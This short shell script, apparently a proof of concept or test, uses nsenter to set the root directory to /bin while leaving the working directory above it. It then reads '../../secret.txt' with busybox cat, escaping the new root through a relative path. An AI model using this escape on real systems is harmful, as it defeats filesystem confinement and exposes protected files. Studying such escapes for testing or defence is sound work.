#!/bin/sh
# The root directory becomes /bin, the working directory stays above it. So .. does not meet the root.
nsenter --root=/bin --wd=/ /busybox cat ../../secret.txt
